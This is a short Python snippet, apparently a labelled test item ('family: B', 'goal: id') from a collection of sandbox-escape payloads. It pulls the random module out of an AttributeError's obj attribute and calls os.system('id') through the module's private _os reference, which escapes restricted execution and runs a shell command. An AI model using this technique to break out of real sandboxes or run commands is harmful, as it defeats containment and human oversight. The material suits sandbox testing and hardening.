# family: B (a module as a plain value: AttributeError.obj)   goal: id
import random
try:
    random.nope
except AttributeError as e:
    m = e.obj
m._os.system("id")
